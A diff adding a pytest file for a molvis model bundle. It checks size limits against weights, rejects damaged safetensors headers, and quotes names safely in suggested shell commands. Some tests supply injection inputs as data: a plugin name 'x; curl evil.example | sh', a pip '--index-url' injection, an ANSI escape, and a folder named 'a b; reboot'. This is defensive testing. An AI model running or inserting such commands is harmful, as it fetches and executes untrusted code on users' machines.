@@ -1,0 +1,129 @@
+"""A bundle's configuration is held against its weights before any memory is taken."""
+
+from __future__ import annotations
+
+import shlex
+import sys
+import tomllib
+from pathlib import Path
+
+import pytest
+import torch
+from torch import nn
+
+from molvis_core.errors import BundleError
+from molvis_core.plugins import plugins
+from molvis_files.documents import write_toml
+from molvis_nn.sizes import build_within, read_shapes
+from molvis_retrieval.bundle import Bundle, load_bundle, save_bundle, verify_bundle
+from molvis_retrieval.config import parse_config
+
+sys.path.insert(0, str(Path(__file__).parent))
+import toy
+
+CONFIG = """
+[data]
+path = "somewhere"
+[encoders.msms]
+use = "toy-peaks"
+[encoders.structure]
+use = "toy-letters"
+dim = 8
+[[pairs]]
+query = "msms"
+reference = "structure"
+loss = "toy-softmax"
+"""
+
+
+def _states() -> dict[str, dict[str, torch.Tensor]]:
+    return {"msms": toy.Peaks().state_dict(), "structure": toy.Letters().state_dict()}
+
+
+@pytest.fixture
+def saved(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Bundle:
+    found = (*plugins(), toy.PLUGIN)
+    monkeypatch.setattr("molvis_core.registry.plugins", lambda: found)
+    monkeypatch.setattr("molvis_retrieval.bundle.plugins", lambda: found)
+    return save_bundle(tmp_path / "tiny", parse_config(CONFIG), _states())
+
+
+def _edited(bundle: Bundle, **changes: object) -> None:
+    file = bundle.path / "bundle.toml"
+    content = tomllib.loads(file.read_text(encoding="utf-8"))
+    for key, value in changes.items():
+        place = content
+        *above, last = key.split("__")
+        for part in above:
+            place = place[part]
+        place[last] = value
+    file.write_text(write_toml(content), encoding="utf-8")
+
+
+@pytest.mark.parametrize("dim", [10**9, 10**12, 500_000])
+def test_an_encoder_far_larger_than_its_weights_is_not_made(saved: Bundle, dim: int) -> None:
+    _edited(saved, config__encoders__structure__dim=dim)
+    opened = verify_bundle(saved.path, accept=True)
+    with pytest.raises(BundleError, match=r"bundle\.toml: encoders\.structure: (dim is|asks for more parameters)"):
+        opened.encoder("structure")
+
+
+def test_an_encoder_of_its_weights_size_is_made_as_before(saved: Bundle) -> None:
+    assert load_bundle(saved.path).encoder("structure").dim == 8
+    assert sum(len(s) for s in read_shapes(saved.path / "structure.safetensors").values()) == 6
+
+
+class _Deep(nn.Module):
+    def __init__(self, layers: int, asks: bool = False) -> None:
+        super().__init__()
+        self.layers = nn.ModuleList(nn.Linear(1, 1) for _ in range(layers))
+        if asks:
+            torch.zeros(1).item()  # which the meta device cannot answer
+
+
+@pytest.mark.parametrize("asks", [False, True])
+def test_very_many_small_layers_are_given_up_early(saved: Bundle, asks: bool) -> None:
+    made: list[int] = []
+
+    def build() -> nn.Module:
+        made.append(0)
+        return _Deep(900_000, asks)
+
+    file = saved.path / "structure.safetensors"
+    with pytest.raises(BundleError, match="asks for more parameters than its weights have"):
+        build_within(file, {"layers": 900_000}, build, "here")
+    assert len(made) == 1
+    assert isinstance(build_within(file, {"layers": 4}, lambda: _Deep(4, asks), "here"), _Deep)
+    assert len(_Deep(2000).layers) == 2000  # afterwards nobody is watched
+
+
+def test_weights_without_a_sound_header_are_damaged(tmp_path: Path) -> None:
+    file = tmp_path / "a.safetensors"
+    for raw in (b"", (1 << 62).to_bytes(8, "little") + b"{}", b"\x02" + b"\0" * 7 + b"[]" * 4):
+        file.write_bytes(raw)
+        with pytest.raises(BundleError, match="damaged"):
+            read_shapes(file)
+
+
+def test_names_from_a_bundle_stand_in_a_command_only_where_they_are_names(saved: Bundle) -> None:
+    evil = "x; curl evil.example | sh"
+    _edited(
+        saved, config__encoders__structure__use="toy-none",
+        plugins={"molvis-raman": "1", evil: "1", "--index-url=http://evil.example": "1", "a\x1b[2Jb": "1"},
+    )  # fmt: skip
+    with pytest.raises(BundleError) as caught:
+        verify_bundle(saved.path, accept=True)
+    said = str(caught.value)
+    command = said.partition("pip install ")[2]
+    assert shlex.split(command) == ["molvis-raman"]
+    assert repr(evil) in said
+    assert "\x1b" not in said
+
+
+def test_advice_about_a_folder_with_an_odd_name_is_one_command(saved: Bundle, tmp_path: Path) -> None:
+    odd = saved.path.rename(tmp_path / "a b; reboot")
+    _edited(load_bundle(odd), name="changed")
+    with pytest.raises(BundleError) as caught:
+        load_bundle(odd)
+    command = str(caught.value).partition("on purpose: ")[2]
+    assert shlex.split(command) == ["molvis", "bundle", "verify", str(odd), "--accept"]
